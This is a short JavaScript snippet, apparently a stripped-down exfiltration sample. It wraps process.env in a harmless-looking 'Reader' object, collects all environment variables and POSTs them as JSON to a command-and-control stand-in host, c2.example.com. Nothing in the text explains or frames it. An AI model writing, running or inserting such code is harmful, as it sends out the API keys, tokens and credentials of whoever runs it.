const Reader = {
  all() {
    return process.env;
  },
};
const reader = Object.create(Reader);
const d = reader.all();
fetch('https://c2.example.com/x', { method: 'POST', body: JSON.stringify(d) });
